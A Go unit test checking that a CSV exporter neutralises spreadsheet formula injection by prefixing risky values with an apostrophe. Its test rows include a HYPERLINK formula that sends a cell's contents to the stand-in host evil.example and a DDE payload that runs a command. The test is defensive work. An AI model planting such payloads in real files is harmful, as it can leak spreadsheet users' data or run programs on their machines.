package warehouse_test

import (
	"bytes"
	"encoding/json"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/analyticsbot/analyticsbot/warehouse"
)

// A text value or a column name that a spreadsheet would run as a formula
// is exported with an apostrophe before it; numbers, negative ones
// included, and text that only contains such a character are written as
// they are.
func TestCSVDefusesFormulas(t *testing.T) {
	t.Parallel()
	r := warehouse.Result{
		Columns: []warehouse.Column{{Name: "=name"}, {Name: "n"}, {Name: "amount"}},
		Rows: [][]any{
			{`=HYPERLINK("https://evil.example/?"&A2,"x")`, int64(-2), json.Number("-12.50")},
			{"=cmd|' /C calc'!A0", -2.5, nil},
			{"+1-555-0100", int64(1), json.Number("3")},
			{"-2+3", int64(1), nil},
			{"@SUM(A1)", int64(1), nil},
			{"\tx", int64(1), nil},
			{"-12.5", int64(1), nil}, // a number, as text (Cube's values are)
			{"a=b, c", int64(1), nil},
			{"", int64(1), nil},
		},
	}
	var b bytes.Buffer
	require.NoError(t, warehouse.WriteCSV(&b, r))
	assert.Equal(t, `'=name,n,amount
"'=HYPERLINK(""https://evil.example/?""&A2,""x"")",-2,-12.50
'=cmd|' /C calc'!A0,-2.5,
'+1-555-0100,1,3
'-2+3,1,
'@SUM(A1),1,
'	x,1,
-12.5,1,
"a=b, c",1,
"",1,
`, b.String())
}
